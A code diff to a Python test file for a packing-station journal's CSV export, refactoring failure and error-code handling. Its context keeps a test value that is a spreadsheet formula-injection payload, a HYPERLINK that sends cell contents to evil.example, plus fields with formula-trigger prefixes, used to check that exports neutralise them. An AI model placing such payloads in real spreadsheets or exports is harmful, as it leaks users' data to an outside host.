@@ -4,9 +4,9 @@ import csv
 import io
 from pathlib import Path
 
-from packstation.errors import PackstationError
+from packstation.error_codes import ErrorCode
 from packstation.journal import CSV_COLUMNS, AttemptFilter, Journal, Packer, Stage
-from tests.journal import FakeClock
+from tests.journal import Failure, FakeClock
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -24,7 +24,9 @@ def _fill(journal: Journal, clock: FakeClock) -> None:
     # Text from outside (a scanned barcode, a name on a badge, an error) that a spreadsheet would run.
     hostile = journal.start_attempt(HOSTILE, Packer("@B-2", "+Bob"), "-zebra")
     journal.fail(
-        hostile, Stage.FAILED, PackstationError("line one\nline two, with comma", code="order_not_found")
+        hostile,
+        Stage.FAILED,
+        Failure("line one\nline two, with comma", ErrorCode.ORDER_NOT_FOUND),
     )
 
 
